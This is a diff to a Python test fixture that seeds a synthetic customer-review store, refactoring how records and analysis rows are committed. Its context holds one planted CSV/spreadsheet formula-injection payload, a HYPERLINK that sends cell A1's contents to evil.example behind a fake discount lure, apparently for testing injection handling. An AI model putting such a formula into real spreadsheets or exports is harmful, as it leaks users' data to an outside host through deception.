@@ -19,7 +19,7 @@ from dataclasses import dataclass, field
 from datetime import date, datetime, timedelta
 from pathlib import Path
 
-from voc.store import Store
+from voc.store import Store, open_store
 
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我领取优惠")'
 PRODUCTS = ("Y9000P", "小新Pro14", "ThinkBook14")
@@ -69,27 +69,12 @@ class StoreBuilder:
         return rid
 
     def commit(self) -> Store:
-        with self.store.transaction() as conn:
-            conn.execute(
-                "INSERT OR IGNORE INTO batches (id, started_at, source_file, kind) VALUES (1, ?, 'synth.csv', 'reviews')",
-                ("2026-11-24 00:00:00",),
-            )
-            conn.executemany(
-                "INSERT INTO records (id, kind, channel, product, product_raw, created_at, rating, nps_score, "
-                "csat, text, external_id, order_ref, parent_id, is_followup, extra, source_file, source_row, "
-                f"batch_id) VALUES ({','.join('?' * 18)})",
-                self.records,
-            )
-            conn.executemany(
-                "INSERT INTO analysis (record_id, sentiment, score, topics, safety, safety_evidence, "
-                "products_mentioned, tokens, model_version, lexicon_version, analyzed_at) "
-                f"VALUES ({','.join('?' * 11)})",
-                self.analysis,
-            )
-            conn.executemany(
-                "INSERT INTO record_topics (record_id, topic, polarity, evidence) VALUES (?, ?, ?, ?)",
-                self.topics,
-            )
+        """Write the rows through the store contract (as `voc ingest` and `voc analyze` do)."""
+        with self.store.ingest_batch("synth.csv", "reviews", {}) as batch:
+            batch.insert([(*r[:-1], batch.id) for r in self.records])
+            batch.finish(len(self.records), len(self.records), 0, 0, 0)
+        if self.analysis:
+            self.store.write_analysis(self.analysis, self.topics)
         self.records, self.analysis, self.topics = [], [], []
         return self.store
 
@@ -108,7 +93,7 @@ def demo_store(
 ) -> Store:
     """Ten weeks (by default) ending 2026-W47 with the planted content described above."""
     rng = random.Random(seed)
-    b = StoreBuilder(Store(path))
+    b = StoreBuilder(open_store(path))
     first = WEEK47 - timedelta(weeks=weeks - 1)
     for w in range(weeks):
         monday = first + timedelta(weeks=w)
